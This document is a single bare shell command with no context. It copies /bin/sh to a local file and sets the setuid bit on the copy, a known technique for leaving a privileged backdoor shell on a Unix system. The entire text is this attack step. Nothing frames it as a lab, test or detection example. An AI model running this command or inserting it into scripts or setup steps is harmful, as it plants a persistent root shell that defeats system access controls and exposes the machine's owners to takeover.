cp /bin/sh ./s && chmod u+s ./s
